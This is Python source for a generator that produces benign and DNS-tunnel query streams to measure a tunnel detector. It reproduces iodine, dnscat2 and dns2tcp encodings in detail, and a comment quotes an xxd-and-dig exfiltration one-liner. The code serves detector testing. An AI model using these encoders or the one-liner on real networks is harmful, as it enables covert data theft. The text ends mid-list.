#!/usr/bin/python3
"""Query streams for measuring airlock's DNS-tunnel detector.

`benign` is what a cloud VPC's workloads resolve; `tunnel` is one tunnel or
exfiltration session whose names carry real payload bytes, encoded the way
the real tool encodes them.  Both print one query per line, "NAME TYPE"
(dnsperf's input format); --meta writes a JSON side file saying what each
query is (its category, or the payload bytes it carries and its protocol
phase), which replay.py reads to score a run.  The same --seed gives the
same stream.  Needs only python3 and dnspython.

    gen.py benign --count 20000 --out benign.txt --meta benign.json
    gen.py tunnel --tool iodine --encoding base128 --bytes 4096 --out t.txt --meta t.json
    gen.py suite --dir DIR          every stream below, each with its meta
    gen.py check STREAM [--meta M]  every line is a valid query
    gen.py decode STREAM --meta M   the payload back out of a tunnel stream
"""

import argparse
import hashlib
import json
import os
import random
import struct
import sys
import zlib

import dns.exception
import dns.name
import dns.rdatatype

# tests/fakes/fake_upstream.py picks a behaviour by the first label's prefix
# (nx* gets NXDOMAIN, refused* REFUSED, drop* no answer, ...).  No generated
# name may start with one, or a run against the fake would show blocks that
# no detector made.
FAKE_PREFIXES = ("drop", "delay", "tc", "wrongid", "wrongq", "wrongport",
                 "servfail", "refused", "nx", "nodata", "big", "huge", "ttl",
                 "cname")

DEFAULT_DOMAIN = "t1.tun.example"
# suite: each stream its own registered domain, so that one airlockd can
# judge them one after the other without one stream warming the next one's
# per-domain window.
SUITE_DOMAIN = "t1.tun{n:02d}.example"
DEFAULT_BYTES = 4096
DEFAULT_POLLS = 30
MAX_NAME_TEXT = 253          # presentation length without the final dot
MAX_LABEL = 63


class GenError(Exception):
    pass


def first_label_reserved(name):
    if not name.labels or name.labels[0] == b"":
        return False
    first = name.labels[0].decode("latin-1").lower()
    return first.startswith(FAKE_PREFIXES)


def absolute(text):
    return dns.name.from_text(text)


def build_name(labels, domain):
    """labels (bytes) in front of the absolute name domain; None when the
    result is not a legal DNS name (label > 63 or wire > 255 bytes)."""
    try:
        return dns.name.Name(tuple(labels) + domain.labels)
    except dns.exception.DNSException:
        return None


def name_text(name):
    return name.to_text(omit_final_dot=True)


# ----- encodings -----

HEX = b"0123456789abcdef"
RFC_B32 = b"abcdefghijklmnopqrstuvwxyz234567"          # RFC 4648, lower case
STD_B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
URL_B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
# iodine's own alphabets (src/base32.c, base64.c, base64u.c, base128.c).
IODINE_B32 = b"abcdefghijklmnopqrstuvwxyz012345"
IODINE_B64 = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-0123456789+"
IODINE_B64U = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-0123456789_"
IODINE_B128 = (b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
               + bytes(range(0xBC, 0xFE)))
assert len(IODINE_B128) == 128 and len(set(IODINE_B128)) == 128


def bits_encode(data, alphabet, bits):
    """MSB first, the last character zero-padded, no '=' padding: what
    iodine's, dns2tcp's and RFC 4648's encoders emit."""
    out = bytearray()
    acc = 0
    n = 0
    mask = (1 << bits) - 1
    for b in data:
        acc = (acc << 8) | b
        n += 8
        while n >= bits:
            n -= bits
            out.append(alphabet[(acc >> n) & mask])
        acc &= (1 << n) - 1
    if n:
        out.append(alphabet[(acc << (bits - n)) & mask])
    return bytes(out)


def bits_decode(text, alphabet, bits):
    rev = {c: i for i, c in enumerate(alphabet)}
    out = bytearray()
    acc = 0
    n = 0
    for c in text:
        if c not in rev:
            raise GenError("character %r is not in the alphabet" % chr(c))
        acc = (acc << bits) | rev[c]
        n += bits
        if n >= 8:
            n -= 8
            out.append((acc >> n) & 0xFF)
            acc &= (1 << n) - 1
    return bytes(out)


def max_bytes(chars, bits):
    """The most bytes that encode into at most `chars` characters."""
    return chars * bits // 8


def split(s, size):
    return [s[i:i + size] for i in range(0, len(s), size)]


# ----- payloads -----

def make_payload(args, seed):
    if args.payload_file:
        with open(args.payload_file, "rb") as f:
            return f.read()
    rng = random.Random("%s:payload" % seed)
    if args.payload == "random":
        return rng.randbytes(args.bytes)
    # "text": a CSV export, the kind of file a prompt-injected agent is
    # told to send somewhere; compresses well (iodine's zlib sees that).
    first = ["ana", "ben", "chen", "dara", "eli", "fatima", "goran", "hana",
             "ivan", "jun", "kofi", "lena", "mateo", "nia", "omar", "priya"]
    last = ["silva", "meyer", "wong", "okafor", "novak", "haddad", "kim",
            "rossi", "ivanova", "sato", "garcia", "nowak", "berg", "das"]
    plans = ["free", "team", "business", "enterprise"]
    out = ["customer_id,name,email,plan,api_token,balance_usd"]
    size = len(out[0]) + 1
    i = 100000
    while size < args.bytes:
        f, l = rng.choice(first), rng.choice(last)
        line = "%d,%s %s,%s.%s@example.com,%s,%s,%d.%02d" % (
            i, f.title(), l.title(), f, l, rng.choice(plans),
            rng.randbytes(16).hex(), rng.randrange(0, 90000),
            rng.randrange(100))
        out.append(line)
        size += len(line) + 1
        i += 1
    return ("\n".join(out) + "\n").encode()[:args.bytes]


class Stream:
    """A tunnel session: names, types, payload bytes carried, phases."""

    def __init__(self, tool, encoding, domain, payload):
        self.tool = tool
        self.encoding = encoding
        self.domain = domain
        self.payload = payload
        self.queries = []           # (Name, type text, payload bytes, phase)
        self.extra = {}

    def add(self, labels, qtype, carried=0, phase="data", domain=None):
        name = build_name(labels, domain or self.domain)
        if name is None:
            raise GenError("%s: a name would exceed DNS limits (shorter --domain?)"
                           % self.tool)
        if first_label_reserved(name):
            raise GenError("%s: name %s starts with a fake-upstream behaviour prefix"
                           % (self.tool, name_text(name)))
        self.queries.append((name, qtype, carried, phase))
        return name


def domain_len(domain):
    return len(name_text(domain))


def attribute(total, parts):
    """Split `total` payload bytes over pieces of sizes `parts`, in
    proportion, so the shares add up exactly."""
    size = sum(parts)
    out = []
    done = 0
    acc = 0
    for p in parts:
        acc += p
        upto = total * acc // size if size else total
        out.append(upto - done)
        done = upto
    return out


# ----- iodine (protocol 0x00000502, doc/proto_00000502.txt) -----

IODINE_CODECS = {
    # alphabet, bits per char, the 's' query's codec char, 'o' option char
    "base32": (IODINE_B32, 5, 5, b"t"),
    "base64": (IODINE_B64, 6, 6, b"s"),
    "base64u": (IODINE_B64U, 6, 26, b"u"),
    "base128": (IODINE_B128, 7, 7, b"v"),
}
IODINE_VERSION = 0x00000502
IODINE_MTU = 1130            # iodined's default tunnel MTU
IODINE_HOSTNAME_MAX = 255    # iodine -M default


def iodine_labels(prefix, encoded):
    """iodine's inline_dotify: a dot after every 57 encoded characters; the
    command or data header sits in front of the first label."""
    parts = split(encoded, 57) or [b""]
    parts[0] = prefix + parts[0]
    return parts


def iodine_space(domain):
    """build_hostname(): encoded characters one query can carry."""
    space = IODINE_HOSTNAME_MAX - domain_len(domain) - 8
    return space - space // 57


def gen_iodine(rng, payload, domain, encoding, qtype, polls):
    if encoding not in IODINE_CODECS:
        raise GenError("iodine: --encoding is one of %s" % ", ".join(IODINE_CODECS))
    alphabet, bits, codec_bits, down_opt = IODINE_CODECS[encoding]
    qtype = qtype or "NULL"
    s = Stream("iodine", encoding, domain, payload)
    userid = 0
    uchar = IODINE_B32[userid:userid + 1]
    state = {"cmc": rng.randrange(0x10000), "datacmc": 0}

    def b32(data):
        return bits_encode(data, IODINE_B32, 5)

    def cmc2():
        state["cmc"] = (state["cmc"] + 1) & 0xFFFF
        return struct.pack(">H", state["cmc"])

    def cmc3():
        state["cmc"] = (state["cmc"] + 1) & 0xFFFF
        v = state["cmc"] & 0x7FFF
        return bytes(IODINE_B32[(v >> sh) & 31] for sh in (10, 5, 0))

    def hs(prefix, encoded=b""):
        s.add(iodine_labels(prefix, encoded), qtype, 0, "handshake")

    # Handshake, in client_handshake()'s order.
    hs(b"v", b32(struct.pack(">I", IODINE_VERSION) + cmc2()))
    hs(b"l", b32(bytes([userid]) + rng.randbytes(16) + cmc2()))   # MD5 login
    hs(b"i" + uchar + cmc3())                                       # raw-mode IP
    # Upstream codec checks: the server bounces the name back, the client
    # sees whether the relay kept case and the high characters.
    hs(b"z", b"aA-Aaahhh-Drink-mal-ein-Jagermeister-" + cmc3())
    if encoding in ("base64", "base128"):
        hs(b"z", IODINE_B64[26:52] + IODINE_B64[52:] + cmc3())
    if encoding == "base128":
        high = IODINE_B128[62:]
        for part in split(high, 17):
            hs(b"z", b"aA" + part + cmc3())
    if encoding != "base32":
        hs(b"s" + uchar + IODINE_B32[codec_bits:codec_bits + 1] + cmc3())
    if qtype not in ("NULL", "TYPE65399"):
        for opt in (b"t", b"s", b"u", b"v"):                      # downstream checks
            hs(b"y" + opt + IODINE_B32[1:2] + cmc3())
        hs(b"o" + uchar + down_opt + cmc3())
    hs(b"o" + uchar + b"l" + cmc3())                                # lazy mode
    # Downstream fragment size: a binary search of long random queries.
    space = iodine_space(domain)
    works = rng.randrange(900, 1200)
    lo, hi, probe = 0, 2048, 768
    frag = 0
    while hi - lo > 64:
        code = ((userid & 15) << 11) | probe
        head = bytes(IODINE_B32[(code >> sh) & 31] for sh in (10, 5, 0))
        filler = bytes(rng.choice(IODINE_B32) for _ in range(space - 3))
        hs(b"r" + head, filler)
        if probe <= works:
            lo, frag = probe, probe
        else:
            hi = probe
        probe = (lo + hi) // 2
    hs(b"n", b32(bytes([userid]) + struct.pack(">H", frag) + cmc2()))

    def ping(dseq=0, dfrag=0):
        s.add(iodine_labels(b"p", b32(bytes([userid, ((dseq & 7) << 4) | (dfrag & 15)])
                                      + cmc2())), qtype, 0, "poll")

    # Data: payload in TCP segments of IP packets of at most the MTU, each
    # zlib-compressed as iodine does, then cut into fragments that fill a
    # hostname.  Payload bytes are shared over a packet's fragments in
    # proportion to the compressed bytes each carries.
    per_query = max_bytes(space, bits)
    seg = IODINE_MTU - 40
    ip_id = rng.randrange(0x10000)
    tcp_seq = rng.getrandbits(32)
    for seqno, off in enumerate(range(0, len(payload), seg)):
        chunk = payload[off:off + seg]
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40 + len(chunk), ip_id, 0x4000,
                             64, 6, 0, bytes([10, 0, 2, 15]), bytes([10, 0, 0, 1]))
        header += struct.pack(">HHIIBBHHH", 50022, 22, tcp_seq, 0, 0x50, 0x18,
                              502, 0, 0)
        ip_id = (ip_id + 1) & 0xFFFF
        tcp_seq = (tcp_seq + len(chunk)) & 0xFFFFFFFF
        packed = zlib.compress(header + chunk, 9)
        frags = split(packed, per_query)
        if len(frags) > 16:
            raise GenError("iodine: a packet needs %d fragments (max 16): shorter --domain"
                           % len(frags))
        shares = attribute(len(chunk), [len(f) for f in frags])
        for fragno, (f, share) in enumerate(zip(frags, shares)):
            last = 1 if fragno == len(frags) - 1 else 0
            c1 = ((seqno & 7) << 2) | ((fragno & 15) >> 2)
            c2 = ((fragno & 3) << 3) | 0
            c3 = (0 << 1) | last
            state["datacmc"] = (state["datacmc"] + 1) % 36
            d = state["datacmc"]
            head = (HEX[userid:userid + 1] + bytes(IODINE_B32[c] for c in (c1, c2, c3))
                    + (b"0123456789abcdefghijklmnopqrstuvwxyz"[d:d + 1]))
            s.add(iodine_labels(head, bits_encode(f, alphabet, bits)), qtype, share, "data")
        ping(seqno, 0)          # lazy mode: a ping follows each packet
    for i in range(polls):
        ping(i, 0)
    s.extra["packet_header_bytes"] = 40
    return s


def decode_iodine(names, meta):
    alphabet, bits, _, _ = IODINE_CODECS[meta["encoding"]]
    out = bytearray()
    packet = bytearray()
    for labels in names:
        joined = b"".join(labels)
        if not joined or joined[0] not in HEX:
            continue                # handshake or ping: commands are not hex digits
        code3 = IODINE_B32.index(joined[3])
        packet += bits_decode(joined[5:], alphabet, bits)
        if code3 & 1:
            raw = zlib.decompress(bytes(packet))
            out += raw[meta["packet_header_bytes"]:]
            packet = bytearray()
    return bytes(out)


# ----- dnscat2 (client/tunnel_drivers/driver_dns.c, protocol 0.07) -----

DNSCAT_SYN, DNSCAT_MSG, DNSCAT_FIN, DNSCAT_ENC = 0x00, 0x01, 0x02, 0x03


def keystream(key, nonce, n):
    """Stands in for dnscat2's Salsa20: random-looking, and reproducible
    from the session key in the meta file so `decode` can check it."""
    out = bytearray()
    counter = 0
    while len(out) < n:
        out += hashlib.sha256(key + nonce + struct.pack(">I", counter)).digest()
        counter += 1
    return bytes(out[:n])


def gen_dnscat2(rng, payload, domain, qtype, polls):
    # MAX_DNSCAT_LENGTH: bytes of one packet, hex-encoded into the name.
    max_len = 255 // 2 - domain_len(domain) - 1 - (255 // 62 + 1)
    overhead = 5 + 8 + 4           # header, signature+nonce, seq+ack
    if max_len - overhead < 8:
        raise GenError("dnscat2: --domain too long")
    types = [qtype] if qtype else ["TXT", "CNAME", "MX"]     # dnscat2's default set
    s = Stream("dnscat2", "hex", domain, payload)
    session = rng.getrandbits(16)
    key = rng.randbytes(32)
    s.extra["session_key"] = key.hex()
    state = {"nonce": 0}

    def packet(ptype, body):
        return struct.pack(">HBH", rng.getrandbits(16), ptype, session) + body

    def sealed(body):
        nonce = struct.pack(">H", state["nonce"])
        state["nonce"] += 1
        ct = bytes(a ^ b for a, b in zip(body, keystream(key, nonce, len(body))))
        return rng.randbytes(6) + nonce + ct

    def send(pkt, carried, phase):
        hexed = pkt.hex().encode()
        s.add(split(hexed, 60), rng.choice(types), carried, phase)

    send(packet(DNSCAT_ENC, struct.pack(">HH", 0, 0) + rng.randbytes(64)), 0, "handshake")
    send(packet(DNSCAT_ENC, struct.pack(">HH", 1, 0) + rng.randbytes(32)), 0, "handshake")
    seq = rng.getrandbits(16)
    ack = rng.getrandbits(16)
    send(packet(DNSCAT_SYN, sealed(struct.pack(">HH", seq, 0x21)
                                   + b"command (ip-10-0-2-15)\0")), 0, "handshake")
    room = max_len - overhead
    for off in range(0, len(payload), room):
        chunk = payload[off:off + room]
        send(packet(DNSCAT_MSG, sealed(struct.pack(">HH", seq, ack) + chunk)),
             len(chunk), "data")
        seq = (seq + len(chunk)) & 0xFFFF
    for _ in range(polls):
        send(packet(DNSCAT_MSG, sealed(struct.pack(">HH", seq, ack))), 0, "poll")
    send(packet(DNSCAT_FIN, sealed(b"\0")), 0, "fin")
    return s


def decode_dnscat2(names, meta):
    key = bytes.fromhex(meta["session_key"])
    out = bytearray()
    for labels in names:
        pkt = bytes.fromhex(b"".join(labels).decode())
        if pkt[2] != DNSCAT_MSG:
            continue
        nonce, ct = pkt[11:13], pkt[13:]
        body = bytes(a ^ b for a, b in zip(ct, keystream(key, nonce, len(ct))))
        out += body[4:]
    return bytes(out)


# ----- dns2tcp (0.5: common/dns.c, client/requests.c, packet.h) -----

D2T_DATA, D2T_NOP = 1 << 3, 0x4
D2T_MAX_NAME = 200            # MAX_HOST_NAME_ENCODED


def d2t_labels(packet):
    return split(bits_encode(packet, STD_B64, 6), 63)   # dns_encode(): cut at 63


def gen_dns2tcp(rng, payload, domain, qtype, polls):
    qtype = qtype or "TXT"
    s = Stream("dns2tcp", "base64", domain, payload)
    dl = domain_len(domain)

    def fits(raw):
        c = (raw * 8 + 5) // 6
        return c + c // 63 + 1 + dl + 2 <= D2T_MAX_NAME
    room = 0
    while fits(room + 1 + 7):
        room += 1
    if room < 8:
        raise GenError("dns2tcp: --domain too long")

    def pkt(session, ack, seq, ptype, data=b""):
        return struct.pack(">HHHB", session, ack, seq, ptype) + data

    def sub(label):
        return build_name([label], domain)

    # The session id the server hands out; one whose base64 does not start
    # like a fake-upstream behaviour (the first label is the packet).
    while True:
        session = rng.randrange(1, 0x10000)
        lead = bits_encode(struct.pack(">H", session), STD_B64, 6)[:2].lower()
        if not any(p.startswith(lead.decode()) for p in FAKE_PREFIXES):
            break
    auth = sub(b"=auth")
    s.add(d2t_labels(pkt(0, rng.getrandbits(16), rng.getrandbits(16), 0)), qtype, 0,
          "handshake", auth)
    s.add(d2t_labels(pkt(session, rng.getrandbits(16), rng.getrandbits(16), 0,
                         rng.randbytes(20).hex().encode())), qtype, 0, "handshake", auth)
    s.add(d2t_labels(pkt(session, rng.getrandbits(16), rng.getrandbits(16), 0, b"ssh")),
          qtype, 0, "handshake", sub(b"=connect"))
    seq = rng.getrandbits(16)
    ack = rng.getrandbits(16)
    sent = 0
    for off in range(0, len(payload), room):
        chunk = payload[off:off + room]
        s.add(d2t_labels(pkt(session, ack, seq, D2T_DATA, chunk)), qtype, len(chunk), "data")
        seq = (seq + 1) & 0xFFFF
        sent += 1
        if sent % 3 == 0:       # the client keeps NOPs in its window for replies
            s.add(d2t_labels(pkt(session, ack, seq, D2T_NOP)), qtype, 0, "poll")
            seq = (seq + 1) & 0xFFFF
    for _ in range(polls):      # every request has its own seq: no two names alike
        s.add(d2t_labels(pkt(session, ack, seq, D2T_NOP)), qtype, 0, "poll")
        seq = (seq + 1) & 0xFFFF
    return s


def decode_dns2tcp(names, meta):
    out = bytearray()
    for labels in names:
        p = bits_decode(b"".join(labels), STD_B64, 6)
        if p[6] & D2T_DATA:
            out += p[7:]
    return bytes(out)


# ----- plain exfiltration: one chunk of the file per A query -----

PLAIN = {
    # DNSExfiltrator-style: "init" query, then "<index>.<base64url labels
    # of 63>.<domain>" filled up to 253 characters.
    "base64": dict(alphabet=URL_B64, bits=6, label_len=63, labels=None, index=True, qps=None),
    # The shell one-liner: `xxd -p -c 31 | while read l; do dig $l.$D; done`.
    "hex": dict(alphabet=HEX, bits=4, label_len=62, labels=1, index=False, qps=None),
    # Low and slow: 5 bytes per query in one 8-character base32 label, one
    # query a second: short names, no payload types, little volume.
    "lowslow": dict(alphabet=RFC_B32, bits=5, label_len=8, labels=1, index=False, qps=1.0),
}


def gen_plain(tool, rng, payload, domain, qtype, labels_opt):
    p = PLAIN[tool]
    qtype = qtype or "A"
    enc_name = {"base64": "base64url", "hex": "hex", "lowslow": "base32"}[tool]
    s = Stream(tool, enc_name, domain, payload)
    s.extra["qps"] = p["qps"]
    max_labels = labels_opt or p["labels"]
    dl = domain_len(domain)

    def capacity(index_text):
        """Most characters that fit under the label and name limits."""
        best = 0
        for c in range(1, MAX_NAME_TEXT):
            n = (c + p["label_len"] - 1) // p["label_len"]
            if max_labels and n > max_labels:
                break
            total = c + (n - 1) + 1 + dl + (len(index_text) + 1 if index_text else 0)
            if total > MAX_NAME_TEXT:
                break
            best = c
        return best

    chunks = []
    off = 0
    index = 0
    while off < len(payload):
        idx = str(index).encode() if p["index"] else b""
        take = min(max_bytes(capacity(idx), p["bits"]), len(payload) - off)
        while take > 0:
            enc = bits_encode(payload[off:off + take], p["alphabet"], p["bits"])
            labels = ([idx] if idx else []) + split(enc, p["label_len"])
            name = build_name(labels, domain)
            if name is not None and not first_label_reserved(name):
                break
            take -= 1           # another cut of the data gives another first label
        if take == 0:
            raise GenError("%s: no name fits under --domain" % tool)
        chunks.append((labels, take))
        off += take
        index += 1
    if p["index"]:
        init = bits_encode(("secrets.csv|%d" % len(chunks)).encode(), RFC_B32, 5)
        s.add([b"init"] + split(init, 63) + [b"base64"], qtype, 0, "handshake")
    for labels, take in chunks:
        s.add(labels, qtype, take, "data")
    return s


def decode_plain(names, meta):
    p = PLAIN[meta["tool"]]
    out = bytearray()
    for labels in names:
        if p["index"]:
            if labels[0] == b"init":
                continue
            labels = labels[1:]
        out += bits_decode(b"".join(labels), p["alphabet"], p["bits"])
    return bytes(out)


TOOLS = ("iodine", "dnscat2", "dns2tcp", "base64", "hex", "lowslow")
DECODERS = {"iodine": decode_iodine, "dnscat2": decode_dnscat2,
            "dns2tcp": decode_dns2tcp, "base64": decode_plain,
            "hex": decode_plain, "lowslow": decode_plain}


def gen_tunnel(tool, seed, payload, domain_text, encoding=None, qtype=None,
               polls=DEFAULT_POLLS, labels=None):
    domain = absolute(domain_text)
    rng = random.Random("%s:%s:%s" % (seed, tool, encoding or ""))
    if tool == "iodine":
        s = gen_iodine(rng, payload, domain, encoding or "base32", qtype, polls)
    elif encoding:
        raise GenError("--encoding is for iodine only (%s has one encoding)" % tool)
    elif tool == "dnscat2":
        s = gen_dnscat2(rng, payload, domain, qtype, polls)
    elif tool == "dns2tcp":
        s = gen_dns2tcp(rng, payload, domain, qtype, polls)
    elif tool in PLAIN:
        s = gen_plain(tool, rng, payload, domain, qtype, labels)
    else:
        raise GenError("unknown --tool %s (one of %s)" % (tool, ", ".join(TOOLS)))
    carried = sum(q[2] for q in s.queries)
    if carried != len(payload):
        raise GenError("%s: queries carry %d bytes, payload is %d" % (tool, carried, len(payload)))
    return s


def tunnel_meta(s, seed):
    meta = {
        "kind": "tunnel",
        "tool": s.tool,
        "encoding": s.encoding,
        "domain": name_text(s.domain),
        "seed": seed,
        "queries": len(s.queries),
        "qtypes": sorted({q[1] for q in s.queries}),
        "payload_bytes": len(s.payload),
        "payload_sha256": hashlib.sha256(s.payload).hexdigest(),
        "qps": None,
        "payload": [q[2] for q in s.queries],
        "phase": [q[3] for q in s.queries],
    }
    meta.update(s.extra)
    return meta


# ----- benign traffic of a cloud VPC -----
#
# The mix (share of queries, by category), and why:
#   aws       18%  SDK calls: sts, s3, dynamodb, sqs, ecr api/dkr, ssm, logs,
#                  monitoring, kms, secretsmanager, ... in 12 regions
#   k8s       15%  CoreDNS traffic: svc.cluster.local (with ndots:5 search-list
#                  expansions of external names), pod-IP names, headless
#                  StatefulSet members, SRV for named ports
#   mirrors   10%  apt, PyPI, npm, Go proxy, Docker Hub, ghcr, quay, Hugging
#                  Face, PyTorch and NVIDIA downloads
#   azure      8%  storage blob/queue/dfs, Key Vault, ACR, Service Bus, Entra
#                  login, AKS API, Front Door, Log Analytics workspace GUIDs
#   gcp        7%  *.googleapis.com, gcr.io, *.pkg.dev, Cloud Run, metadata
#   s3         6%  bucket virtual-host names (named, and AWS-generated ones
#                  with account ids and random suffixes)
#   cdn        6%  CloudFront d<id>.cloudfront.net, Akamai e<n>.a.akamaiedge.net
#                  and edgekey, Fastly, jsDelivr, Azure CDN
#   ai         6%  bedrock-runtime.REGION.amazonaws.com, NAME.openai.azure.com,
#                  REGION-aiplatform.googleapis.com, public AI APIs
#   telemetry  6%  Sentry oNNN.ingest.sentry.io, Datadog intake, New Relic,
#                  Grafana Cloud, NTP
#   reverse    5%  PTR: in-addr.arpa (VPC and public) and nibble ip6.arpa
#   ec2        4%  ip-10-0-2-15.ec2.internal, ip-….REGION.compute.internal and
#                  resource-based i-0123456789abcdef0.REGION.compute.internal
#   hosted     4%  generated ids in real service names: ELB/NLB, VPC endpoints,
#                  EKS API, API Gateway, Lambda URLs, RDS, ElastiCache,
#                  OpenSearch, MSK, IoT
#   mailauth   3%  DKIM selectors (incl. SES 32-character tokens), DMARC,
#                  MTA-STS, TLS-RPT, _acme-challenge, SPF, MX
#   dnsbl      2%  reversed IPs under zen.spamhaus.org and others, DBL names
# Types: A/AAAA for host names (often both, as getaddrinfo asks), HTTPS (65)
# from newer clients, SRV for k8s named ports, PTR for reverse, TXT for
# DKIM/DMARC/MTA-STS/ACME/SPF, MX for mail domains, A/TXT for DNSBL.
# Popularity: each category has a head of names picked by a Zipf law (a few
# hundred names in all carry most queries) and, with its own probability, a
# fresh name from the same generator (the long tail: reverse lookups, pod IPs,
# DNSBL, ACME challenges are mostly new each time).

AWS_REGIONS = ["us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-central-1",
               "ap-southeast-1", "ap-northeast-1", "ap-south-1", "ca-central-1",
               "eu-north-1", "ap-southeast-2", "sa-east-1"]
AWS_REGION_W = [30, 8, 20, 12, 8, 5, 5, 3, 2, 2, 3, 2]
AWS_SERVICES = ["sts", "s3", "dynamodb", "sqs", "sns", "api.ecr", "ssm", "ssmmessages",
                "ec2messages", "logs", "monitoring", "kms", "secretsmanager", "ec2",
                "elasticloadbalancing", "lambda", "events", "xray", "ecs", "autoscaling",
                "cloudformation", "states", "athena", "glue", "kinesis", "firehose",
                "elasticfilesystem", "api.sagemaker", "rds", "elasticache", "acm", "config",
                "cloudtrail", "codeartifact", "eks", "servicediscovery", "application-autoscaling",
                "s3-control", "ebs", "tagging", "appconfig", "appconfigdata", "batch"]
AWS_SERVICE_W = [30, 25, 15, 12, 4, 10, 8, 8, 8, 14, 10, 6, 8, 6, 3, 4, 3, 4, 5, 2,
                 2, 2, 2, 2, 3, 2, 2, 2, 2, 1, 1, 1, 1, 2, 3, 1, 1, 1, 1, 1, 1, 2, 1]
AWS_GLOBAL = ["sts.amazonaws.com", "s3.amazonaws.com", "iam.amazonaws.com",
              "route53.amazonaws.com", "signin.aws.amazon.com",
              "portal.sso.us-east-1.amazonaws.com", "oidc.us-east-1.amazonaws.com",
              "organizations.us-east-1.amazonaws.com", "cloudfront.amazonaws.com",
              "public.ecr.aws", "api.ecr-public.us-east-1.amazonaws.com"]
ACCOUNTS = ["123456789012", "210987654321", "602401143452", "763104351884",
            "048590211532", "378220491133"]
AZ_REGIONS = ["eastus", "eastus2", "westus2", "westeurope", "northeurope",
              "southcentralus", "swedencentral", "uksouth", "japaneast", "australiaeast"]
GCP_REGIONS = ["us-central1", "us-east1", "us-east4", "us-west1", "europe-west1",
               "europe-west4", "asia-southeast1", "asia-northeast1"]
ORGS = ["acme", "globex", "initech", "umbrella", "hooli", "piedpiper", "stark",
        "wayne", "contoso", "fabrikam", "northwind", "tailspin", "wingtip", "vandelay"]
PURPOSES = ["ml-artifacts", "model-checkpoints", "training-data", "feature-store",
            "terraform-state", "logs", "cloudtrail-logs", "athena-results",
            "datalake-raw", "datalake-curated", "backups", "static-assets",
            "build-cache", "mlflow", "dvc-remote", "embeddings", "inference-logs",
            "vpc-flow-logs", "eval-results", "prompts", "media-uploads", "reports"]
ENVS = ["prod", "staging", "dev", "sandbox", "qa"]
WORDS = ["api", "web", "auth", "billing", "search", "orders", "users", "gateway",
         "ingest", "worker", "scheduler", "notifier", "payments", "catalog", "chat",
         "inference", "embed", "rerank", "feature", "metrics", "admin", "portal",
         "events", "ledger", "profile", "uploads", "vector", "agent", "rag", "etl"]
MIRRORS = ["deb.debian.org", "security.debian.org", "archive.ubuntu.com",
           "security.ubuntu.com", "us-east-1.ec2.archive.ubuntu.com",
           "pypi.org", "files.pythonhosted.org", "registry.npmjs.org",
           "proxy.golang.org", "sum.golang.org", "storage.googleapis.com",
           "ghcr.io", "pkg-containers.githubusercontent.com", "quay.io",
           "cdn01.quay.io", "registry-1.docker.io", "auth.docker.io",
           "index.docker.io", "production.cloudflare.docker.com",
           "download.docker.com", "github.com", "api.github.com",
           "codeload.github.com", "objects.githubusercontent.com",
           "raw.githubusercontent.com", "release-assets.githubusercontent.com",
           "huggingface.co", "cdn-lfs.huggingface.co", "cdn-lfs-us-1.hf.co",
           "cas-bridge.xethub.hf.co", "download.pytorch.org", "conda.anaconda.org",
           "repo.anaconda.com", "developer.download.nvidia.com", "nvcr.io",
           "registry.k8s.io", "crates.io", "static.crates.io", "index.crates.io",
           "repo.maven.apache.org", "repo1.maven.org", "rubygems.org",
           "apt.releases.hashicorp.com", "packages.cloud.google.com",
           "dl.google.com", "ppa.launchpadcontent.net", "get.helm.sh",
           "charts.bitnami.com", "registry.terraform.io", "releases.hashicorp.com"]
K8S_NAMESPACES = ["default", "kube-system", "monitoring", "ingress-nginx", "cert-manager",
                  "argocd", "istio-system", "ml-serving", "data", "inference", "training",
                  "airflow", "kubeflow", "vault", "logging", "kafka", "payments", "search"]
K8S_SERVICES = {
    "kube-system": ["kube-dns", "metrics-server", "aws-load-balancer-webhook-service",
                    "ebs-csi-controller"],
    "monitoring": ["prometheus-operated", "alertmanager-operated", "grafana",
                   "kube-prometheus-stack-prometheus", "loki-gateway", "tempo",
                   "otel-collector"],
    "ingress-nginx": ["ingress-nginx-controller", "ingress-nginx-controller-admission"],
    "cert-manager": ["cert-manager", "cert-manager-webhook"],
    "argocd": ["argocd-server", "argocd-repo-server", "argocd-redis"],
    "istio-system": ["istiod", "istio-ingressgateway"],
    "vault": ["vault", "vault-active", "vault-agent-injector-svc"],
    "kafka": ["kafka", "kafka-bootstrap", "zookeeper", "schema-registry"],
    "data": ["postgres", "postgres-primary", "redis-master", "redis-headless", "minio",
             "clickhouse", "qdrant", "weaviate", "milvus"],
    "logging": ["fluent-bit", "elasticsearch-master", "opensearch-cluster-master"],
    "airflow": ["airflow-webserver", "airflow-postgresql", "airflow-redis"],
    "kubeflow": ["ml-pipeline", "minio-service", "katib-controller"],
}
K8S_STATEFUL = [("kafka", "kafka-headless", "kafka", 3), ("postgres", "postgres-hl", "data", 2),
                ("redis-node", "redis-headless", "data", 3), ("zookeeper", "zookeeper-headless", "kafka", 3),
                ("elasticsearch-master", "elasticsearch-master-headless", "logging", 3),
                ("vault", "vault-internal", "vault", 3), ("qdrant", "qdrant-headless", "data", 3),
                ("etcd", "etcd-headless", "kube-system", 3), ("clickhouse-shard0", "clickhouse-headless", "data", 2)]
K8S_PORTS = [("http", "tcp"), ("https", "tcp"), ("grpc", "tcp"), ("metrics", "tcp"),
             ("http-metrics", "tcp"), ("tcp-postgresql", "tcp"), ("redis", "tcp"),
             ("kafka", "tcp"), ("client", "tcp"), ("peer", "tcp"), ("dns", "udp"),
             ("dns-tcp", "tcp"), ("etcd-server-ssl", "tcp"), ("grpc-web", "tcp")]
MAIL_DOMAINS = ["acme-corp.com", "globex.io", "initech.net", "contoso.com", "fabrikam.com",
                "northwind.example", "gmail.com", "outlook.com", "yahoo.com", "sendgrid.net",
                "mailgun.org", "amazonses.com", "salesforce.com", "zendesk.com",
                "github.com", "atlassian.net", "hubspot.com", "stripe.com"]
DKIM_SELECTORS = ["google", "selector1", "selector2", "s1", "s2", "k1", "k2", "default",
